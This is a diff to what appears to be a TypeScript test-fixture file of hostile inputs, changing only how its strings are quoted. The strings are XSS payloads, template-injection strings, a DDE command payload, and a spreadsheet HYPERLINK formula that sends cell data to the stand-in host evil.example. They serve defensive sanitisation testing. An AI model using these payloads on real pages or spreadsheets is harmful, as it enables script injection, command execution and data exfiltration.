@@ -39,9 +39,9 @@ export const ACTIVE_TEXTS: readonly string[] = [
   '<script>window.__hacked="script"</script>',
   '<img src="https://evil.example/i.png" onerror="window.__hacked=1">',
   '"><svg/onload=window.__hacked=2><style>@import "https://evil.example/s.css"</style>',
-  '\' onmouseover=\'window.__hacked=3\' style=\'background:url(https://evil.example/b)\'',
+  "' onmouseover='window.__hacked=3' style='background:url(https://evil.example/b)'",
   '<iframe srcdoc="<script>parent.__hacked=4</script>"></iframe>',
-  '{{constructor.constructor("window.__hacked=5")()}} ${window.__hacked=6}',
+  '{{constructor.constructor("window.__hacked=5")()}} <%= window.__hacked=6 %>',
   ']]><foreignObject><body onload="window.__hacked=7"/></foreignObject><![CDATA[',
   '[a](javascript:window.__hacked=8) ![b](https://evil.example/m.png)',
 ];
@@ -60,7 +60,7 @@ export const ACTIVE_ADDRESSES: readonly string[] = [
 /** Cells that a spreadsheet runs. */
 export const FORMULAS: readonly string[] = [
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3+SUM(A1)',
   '@SUM(1)',
   '\t=1+1',
@@ -78,7 +78,7 @@ export const AWKWARD_IDS: readonly string[] = [
   'hasOwnProperty',
   '*',
   '#a, node[id = "b"]',
-  "a'b\"c`d",
+  'a\'b"c`d',
   '\\',
   ' with spaces ',
   'line\nbreak',
